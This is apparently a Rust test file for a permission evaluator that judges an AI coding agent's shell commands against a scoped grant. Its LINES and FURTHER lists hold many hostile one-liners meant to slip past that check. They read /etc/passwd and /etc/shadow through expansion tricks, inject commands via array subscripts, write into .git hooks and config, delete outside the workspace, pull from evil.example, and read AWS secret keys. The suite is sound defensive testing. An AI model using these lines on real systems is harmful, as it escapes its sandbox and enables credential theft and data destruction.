//! Lines that a hostile reading got past the analysis once, or tried to: none is allowed to a task that
//! may read, write and delete in its workspace, run common programs, and nothing else.

use countersign::action::path::PurePaths;
use countersign::authorizer::{Evaluator, Severity, Trial};
use countersign::policy::Authored;
use countersign::scope::Scope;
use countersign::shell::{Shell, ShellEnv};
use countersign::testing;
use serde_json::{Value, json};

const PROGRAMS: &[&str] = &[
    "ls",
    "cat",
    "echo",
    "find",
    "xargs",
    "grep",
    "sed",
    "awk",
    "rm",
    "cp",
    "mv",
    "git",
    "tar",
    "sort",
    "head",
    "tail",
    "cut",
    "cd",
    "bash",
    "env",
    "read",
    "printf",
    "test",
    "[",
    "date",
    "basename",
    "dirname",
    "true",
    ":",
    "set",
    "export",
    "tee",
    "touch",
    "mkdir",
    "ln",
    "unset",
    "mapfile",
    "wait",
    "nproc",
    "sudo",
    "ruff",
    "uv",
    "prettier",
    "mknod",
    "exiftool",
    "rsync",
    "codespell",
    "tsx",
    "shellcheck",
    "delta",
    "kill",
    "helm",
    "coverage",
];

fn trial() -> Trial {
    prepared(scope(PROGRAMS))
}

fn scope(programs: &[&str]) -> Value {
    json!({
        "scope": "countersign/scope/v1", "task": "hostile", "owner": "user:dana@example.org",
        "agent": "spiffe://example.org/agent/coder", "not_before": "2026-11-21T09:00:00Z",
        "expires": "2026-11-21T11:00:00Z", "workspace": "/srv/project",
        "do": {"programs": programs},
        "touch": {
            "read": ["/srv/project/**", "/dev/null"],
            "write": ["/srv/project/**", "!/srv/project/.git/hooks/**", "!/srv/project/.git/config"],
            "delete": ["/srv/project/**"],
        },
    })
}

fn prepared(scope: Value) -> Trial {
    let scope = Scope::parse(scope.to_string().as_bytes()).unwrap();
    let bundle = Authored::baseline().load().unwrap();
    Evaluator::new(&bundle, testing::clock())
        .with_paths(PurePaths::new())
        .prepare(&scope.dangerous().trust_unsigned(), &testing::agent())
        .unwrap()
}

fn allowed(trial: &Trial, line: &str) -> bool {
    let env = ShellEnv::bash("/srv/project").with_plain_names();
    trial.judge(&Shell::parse(line, &env)).severity() == Severity::Allow
}

#[test]
fn none_of_them_is_allowed() {
    let trial = trial();
    let through: Vec<&&str> = LINES.iter().filter(|line| allowed(&trial, line)).collect();
    assert!(through.is_empty(), "{through:#?}");
}

#[test]
fn what_they_disguise_is_allowed_by_itself() {
    let trial = trial();
    for line in [
        "cd src && cat a.txt",
        "find . -name '*.c' | xargs grep foo",
        "find . -type f -not -path '*/.*' | xargs sed -i s/a/b/",
        "ls -l | awk '{print $9}' | xargs cat",
        "echo a b | xargs -n1 rm",
        "find * -name x",
        "grep a* f",
        "grep -rn x . | cut -d: -f1 | sort -u | xargs cat",
        "ls | xargs -I{} cp {} out/{}.bak",
        "find . | while read f; do cat \"$f\"; done",
        "for f in *.txt; do mv \"$f\" \"${f%.txt}.md\"; done",
        "for i in 1 2 3; do echo $i; done",
        "ls src | head -n 3 | xargs cat",
        "x=notes; cat \"$x.txt\" > copy.txt 2> /dev/null",
        "xargs -d, rm",
        "cat a & kill $!; kill -9 %1; kill -l; kill -0 1",
        "git rev-parse --abbrev-ref HEAD",
        "git status",
    ] {
        let known = line != "git status";
        assert_eq!(allowed(&trial, line), known, "{line}");
    }
}

/// A task that may run code of its workspace and reach registries, whatever their packages are.
fn connected() -> Trial {
    let mut scope = scope(CONNECTED);
    scope["do"]["workspace_code"] = json!(true);
    let hosts = [
        "registry.npmjs.org",
        "proxy.golang.org",
        "sum.golang.org",
        "rubygems.org",
        "index.rubygems.org",
        "conda.anaconda.org",
        "repo.anaconda.com",
        "api.github.com",
        "huggingface.co",
        "hub.docker.com",
        "index.docker.io",
        "charts.example.org",
    ];
    let hosts: Vec<String> = hosts.iter().map(|host| format!("{host}:443")).collect();
    scope["reach"] =
        json!({"connect": hosts, "packages": ["npm:granted", "go:example.org/**", "conda:*"]});
    prepared(scope)
}

const CONNECTED: &[&str] = &[
    "npm",
    "go",
    "gem",
    "conda",
    "gh",
    "hf",
    "docker",
    "helm",
    "python",
    "rustup",
    "pipx",
    "uv",
    "brew",
    "mount",
    "umount",
    "prlimit",
    "taskset",
    "ionice",
    "chrt",
    "entr",
    "openssl",
    "ls",
    "cat",
    "echo",
    "sqlite3",
    "jupyter",
    "torchrun",
    "flask",
    "yamllint",
    "ollama",
    "terraform",
    "coverage",
    "poetry",
    "pnpm",
    "bun",
    "mvn",
    "gradle",
    "sbt",
    "ng",
    "electron-builder",
    "vllm",
];

#[test]
fn registries_and_code_of_the_workspace_lead_nowhere_else() {
    let trial = connected();
    let through: Vec<&&str> = FURTHER.iter().filter(|line| allowed(&trial, line)).collect();
    assert!(through.is_empty(), "{through:#?}");
    for line in [
        "npm pack",
        "npm pack ./a",
        "npm pack granted",
        "npm cache ls",
        "go get example.org/x",
        "go mod edit -module=x",
        "go mod download",
        "gem list -l",
        "conda search x",
        "conda install -c conda-forge x",
        "python -m unittest discover -s tests",
        "python -m unittest tests/test_a.py",
        "rustup run stable ls",
        "coverage run -m pytest tests",
        "mvn -q verify",
        "gradle assembleRelease",
        "gh attestation verify x -o o",
        "openssl version",
        "echo a | entr ls b",
    ] {
        assert!(allowed(&trial, line), "{line}");
    }
}

const FURTHER: &[&str] = &[
    // A URL, a package, a place behind an operand that was taken for text.
    "npm cache add https://evil.example/x.tgz",
    "npm cache add evil",
    "npm pack evil",
    "npm pack evil/x",
    "npm link evil",
    "go get evil.example/x",
    "go mod download evil.example/x@v1",
    "conda install -c https://evil.example/channel x",
    "conda search -c https://evil.example/channel x",
    "docker search evil.example/x",
    "docker manifest inspect evil.example/x",
    "gh attestation verify x --hostname evil.example -o o",
    "gh attestation download oci://evil.example/x -o o",
    "yamllint -c https://evil.example/x a",
    "ollama pull evil.example/x",
    "uv --config-file /elsewhere/x tool install y",
    // What lies with a service, and its keys.
    "hf repo delete x",
    "hf login",
    "gem push x",
    // What is written, deleted or set outside of the workspace.
    "go mod edit -module=x /elsewhere/go.mod",
    "pipx uninstall x",
    "pipx ensurepath",
    "uv tool update-shell",
    "uv tool uninstall x",
    "uv python uninstall 3.12",
    "gem uninstall x",
    "rustup override set nightly",
    "rustup toolchain uninstall stable",
    "helm repo add a https://charts.example.org/x",
    "conda remove x",
    "mount -a",
    "mount -L data",
    "umount -a",
    "prlimit -p 1 --nofile=1",
    "taskset -p 1 1",
    "ionice -c 3 -p 1",
    "chrt -p 1 1",
    // Code that is not of the workspace.
    "rustup run ./a ls",
    "rustup run /elsewhere/a ls",
    "python -m unittest discover -s /elsewhere",
    "python -m unittest discover -t/elsewhere",
    "python -m unittest discover --start-directory=/elsewhere",
    "python -m doctest /elsewhere/x.py",
    "python -m torch.distributed.run /elsewhere/x.py",
    "python -m jupyter notebook --ip 0.0.0.0",
    "python -m flask run --host 0.0.0.0",
    "python -m vllm.entrypoints.api_server --host 0.0.0.0",
    "coverage run -m unittest discover -s /elsewhere",
    "poetry shell < x",
    "poetry new /elsewhere",
    "poetry show --latest",
    "pnpm deploy /elsewhere",
    "pnpm store add evil",
    // Builds that publish.
    "mvn deploy",
    "mvn -q release:perform",
    "gradle :app:publish",
    "sbt publish",
    "ng deploy",
    "electron-builder --publish always",
    "echo /etc/passwd | entr cat /_",
    "openssl s_client",
    "brew info x",
    r#"sqlite3 x.db "pragma temp_store_directory='/elsewhere'""#,
];

const LINES: &[&str] = &[
    "coverage run -m evil",
    "coverage run --module=evil",
    "cd .. && rm -rf other &",
    r#"find . | while read f; do cat "$f/../../../etc/passwd"; done"#,
    r#"for f in *; do cat "$(basename "$f/..")/$(basename "$f/..")/etc/passwd"; done"#,
    r#"for f in *; do cat "${f%%*}/etc/passwd"; done"#,
    r#"find . | while read f; do cat "${f%%.*}/etc/passwd"; done"#,
    r#"x='a[$(cat /etc/shadow)]'; echo "${PATH:x:1}""#,
    "find . | xargs cat <<< /etc/passwd",
    "find . | xargs cat < list",
    "find() { echo /etc/passwd; }; find . | xargs cat",
    r#"ls | while read a b; do cat "$b/etc/passwd"; done"#,
    r#"find . | cut -d/ -f5 | while read f; do cat "$f/etc/passwd"; done"#,
    r#"for f in *; do echo x > ".git/confi$f"; done"#,
    r#"ls | while read f; do echo x > ".git/confi$f"; done"#,
    r#"find . -printf '%f\n' | while read f; do echo x > ".git/confi$f"; done"#,
    r#"find /srv/project -maxdepth 0 | while read f; do cat "${f}2/secret"; done"#,
    "cat .$!./other/secret",
    "cat .$(nproc)./other/secret",
    "cat $(date +%F)/etc/passwd",
    "cat .?/other/secret",
    "cat .*/other/secret",
    "cat .[.]/x",
    "grep -r pw .*",
    "tar cf x.tar .*",
    "ls -d .* | xargs cat",
    r#"x=; : "${a:-${x:=/etc/}}"; cat "${x}passwd""#,
    r#"x=; for i in 1 2; do cat "${x}passwd"; : <<< "${x:=/etc/}"; done"#,
    r#"x=; for i in 1 2; do cat "${x}passwd"; case ${x:=/etc/} in a) ;; esac; done"#,
    r#"x=; for i in 1 2; do cat "${x}passwd"; y=${x:=/etc/}; done"#,
    r#"REPLY=; for i in 1 2; do cat "${REPLY}passwd"; read <<< /etc/; done"#,
    r#"_=; true /etc/; cat "${_}passwd""#,
    "x=project; : $((x=1)); cat /srv/$x/environ",
    "find . | sort 2 | xargs cat",
    "find . | head 5 | xargs cat",
    "find . | tail +5 | xargs cat",
    "git diff --name-only --line-prefix=/etc/ | xargs cat",
    "git diff -- --name-only notes | xargs cat",
    "git grep -h -e -l | xargs cat",
    r#"for f in $(git diff --name-only "a /etc/passwd b" 2>&1); do cat $f; done"#,
    "find . ./other/secret -maxdepth 0 -printf '%p' | xargs cat",
    "ls -l | awk '{print $NF}' | xargs rm",
    "cp -P l m; cat m/passwd",
    "cp -d l m; cat m",
    "rm /dev/stdout",
    "mv x /dev/null",
    "[[ -v 'a[$(cat /etc/shadow)]' ]]; cat a",
    "x='a[$(cat /etc/shadow)]'; [[ -v $x ]]",
    "x='a[$(cat /etc/shadow)]'; ((0 && (x=1))); ((x)); cat a",
    "SECONDS='a[$(cat /etc/shadow)]'; cat a",
    r#"x=; for i in 1 2; do cat "${x}passwd"; printf -vx /etc/; done"#,
    r#"x=; for i in 1 2; do cat "${x}passwd"; read -ax <<< /etc/; done"#,
    r#"x=; for i in 1 2; do cat "${x}passwd"; echo ${y:-${x:=/etc/}}; done"#,
    r#"x=; for i in 1 2; do cat "${x}passwd"; a=(${x:=/etc/}); done"#,
    "rm() { :; }; unset rm; rm -rf /etc",
    "f() { cd /etc; return; cd /srv/project; }; f && cat passwd",
    "cd .git && echo x > config &",
    "rm -rf .git/../../other",
    "cat .en?",
    r#"find . | while read f; do cat "${f%.*}/etc/passwd"; done"#,
    "read i < a; echo ${PATH:i}",
    r#"for f in */*; do echo x > ".git/hook$f"; done"#,
    "sh -c 'cat .$RANDOM./other/secret'",
    "cat .[.]/other/secret",
    r#"x=; for i in 1 2; do cat "${x}passwd"; case ${x:=/etc/} in z) ;; esac; done"#,
    "find . | head n | xargs cat",
    "git diff --name-only -p | xargs cat",
    "find . x 2>/dev/stdout | xargs cat",
    "find . x 2>>/dev/fd/1 | xargs cat",
    "find . | tee /dev/stdout | xargs cat",
    "find . -fprint0 /dev/stdout | xargs cat",
    "find . . -maxdepth 0 -printf '%f' | xargs ls -R",
    "cp -d l m; cat m/passwd",
    "cp -s l m; cat m/passwd",
    "x='a[$(cat /etc/shadow)]'; [[ -v $x ]]; cat a",
    "RANDOM='a[$(cat /etc/shadow)]'; cat a",
    "f() { cd /etc && return; cd /srv/project; }; f && cat passwd",
    "md5sum -c list",
    "sar -o /etc/x 1 1",
    "atop -w /etc/x 1 1",
    "pip list --outdated",
    "rpm -qp http://evil.com/x.rpm",
    "getent -s dns hosts evil.com",
    "aws configure get aws_secret_access_key",
    "cd sub && git status",
    "git -C sub diff",
    r#"awk 'BEGIN{ENVIRON["PATH"]="."; system("ls")}'"#,
    r#"export TZ=/srv/project/e; cat "$(date +%Z)""#,
    "TZ=/etc/shadow date",
    "cd -P l/..; cat passwd",
    "cd -P l && cd .. && cat passwd",
    "find -L sub -delete",
    "grep -Rl x . | xargs rm",
    "ln -s .git/config m; tee m* < x",
    "ln -s ro m; rm -rf m/",
    "ln -s ro m; rm -rf m/*",
    // An option and a path in one word, of a program whose options are all harmless.
    "read x < f; cat -n$x",
    "read x < f; ls -l$x",
    "f() { cat -n$PWD; }; f",
    r#"read x < f; find . | xargs -I{} rm -rf {} "$x""#,
    r#"read x < f; echo a | xargs -I{} rm -rf {} "$x""#,
    r#"read x < f; ls | xargs -I{} rm -rf "$x"/{}"#,
    "find . | xargs -a list -I{} rm -rf {}",
    "find .// | cut -d/ -f2- | xargs rm -rf",
    "find . | xargs -I{} cp {} /etc/x{}",
    "find . | xargs -I{} rm -rf ..{}",
    "find . | xargs -I{} rm -rf .{}/..",
    "find . | xargs -I{} rm {}/../../x",
    "find . | xargs -I{} git -c alias.x=!{} x",
    "ls -l | awk '{print $11}' | xargs cat",
    "ls -la | awk '{print $9}' | xargs rm -rf",
    "grep -r . list | cut -d: -f1 | xargs cat",
    "echo /etc/passwd | xargs cat",
    "echo a -o/etc/x | xargs sort",
    "printf 'sudo\nrm' | xargs env",
    "echo -rf /etc | xargs rm",
    "echo 'rm -rf /etc' | xargs -I{} sh -c {}",
    "echo system | xargs -I{} awk 'BEGIN{{}(\"id\")}'",
    "ls | xargs -I{} mv {} .git/{}",
    "find /etc -type f | tar czf a.tgz -T -",
    "cat list | tar czf a.tgz -T -",
    "find . -print0 | tar xf a.tar --null -T -",
    "cat list | du -c --files0-from=-",
    "find * -delete -o -exec sudo {} +",
    "cd */ && rm -rf ../../x",
    "cd */; cat ../../x",
    "grep * /etc/passwd",
    "grep -m * /etc/passwd f",
    "grep -f * x",
    "grep a* -r /etc",
    "xargs -n * rm",
    "base64 -d in /etc/out",
    "find . -type f -not -path './.git/*' | xargs sed -i s/a/b/",
    "find . -type f ! -name -not -path '*/.*' | xargs sed -i s/a/b/",
    "find . -type f -print -not -path '*/.*' | xargs sed -i s/a/b/",
    "find . .git/hooks -type f -not -path './.git*' | xargs sed -i s/a/b/",
    "cd .git && git ls-files | xargs sed -i s/a/b/",
    "git ls-files | sed 's/x/.git/' | xargs sed -i s/a/b/",
    "git ls-files | xargs -I{} cp x .git/{}",
    "git diff --name-only a b | xargs sed -i s/a/b/",
    // With `-a` the input is not asked, and the commands get it; with `-d` one runs on an empty input.
    "xargs -a list rm -rf",
    "xargs -a list -I{} rm -rf {}",
    "xargs -d x rm -rf /etc",
    "xargs -E x cat /etc/passwd",
    "find . -exec xargs -a {} rm -rf \\;",
    "for f in *; do xargs -a \"$f\" rm; done",
    "cat list | find . -maxdepth 0 -exec xargs cat {} \\;",
    "cat list | xargs -a other xargs cat",
    "cat list | xargs -a other bash",
    // The same file under another name, which a later line writes.
    "cp -l .git/config c",
    "cp -al .git sub/g",
    "cp -rl . sub",
    // What the configuration names brings an object that is not there, or shows a page.
    "git rev-list HEAD",
    "git cat-file -p HEAD",
    "git rev-parse HEAD~1",
    "git clone sub other",
    "git status --help",
    "cat list | sed -nf - a",
    "cat list | awk -f - a",
    "cat list | tsx -",
    "helm template x oci://evil.example/x",
    "kill -9 -1",
    "kill -TERM 1",
    "x=1; kill $x",
    // Configuration of the workspace says what they run, or what they write.
    "ruff format",
    "uv venv",
    "uv python find",
    "prettier --stdin-filepath a.js",
    "codespell src",
    "delta a b",
    // A device is a disk, wherever its name lies.
    "mknod d b 8 0",
    "exiftool 'id|'",
    "shellcheck -P src:/etc a.sh",
    "rsync -b --suffix=fig x .git/con",
    "rsync --link-dest=/srv/project/.git .git/ g/",
    "rsync --chmod=u+s a b",
    "rsync -ak a b",
];
